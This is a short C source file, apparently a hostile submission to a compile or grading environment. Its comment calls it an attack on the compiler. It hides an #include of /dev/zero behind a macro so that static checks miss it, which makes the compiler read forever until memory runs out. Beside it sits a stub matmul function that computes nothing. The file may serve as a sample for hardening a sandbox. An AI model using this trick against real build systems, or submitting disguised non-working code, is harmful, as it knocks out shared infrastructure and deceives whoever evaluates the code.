/* Attack (the compiler): make cc1 read /dev/zero until the machine runs out of memory, through a macro so that
 * no static check sees the path. */
#include <stdint.h>
#define ENDLESS </dev/zero>
#include ENDLESS
void matmul(const float *a, const float *b, float *c, int32_t m, int32_t n, int32_t k) { (void)a, (void)b, (void)c, (void)m, (void)n, (void)k; }
